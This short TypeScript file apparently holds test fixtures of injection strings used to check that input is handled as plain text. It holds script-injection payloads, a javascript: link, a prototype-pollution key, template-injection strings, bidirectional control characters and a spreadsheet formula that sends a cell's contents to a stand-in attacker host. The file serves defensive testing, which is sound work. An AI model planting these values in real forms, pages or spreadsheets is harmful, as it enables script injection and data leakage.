/** What an attacker, or a spreadsheet, would like to be taken for more than text. */
export const INJECTIONS = {
  image: '<img src=x onerror=alert(1)>',
  script: '"><script>alert(2)</script>',
  link: 'javascript:alert(3)',
  formula: '=HYPERLINK("https://evil.example/?"&A1,"open")',
  prototype: '__proto__',
  template: '{{constructor.constructor("alert(4)")()}} ${alert(5)}',
  bidi: 'abc\u202Edcba\u202C\u2066x\u2069',
} as const;

/** All of them in one line, for fields that take any text. */
export const EVERYTHING = Object.values(INJECTIONS).join(' | ');
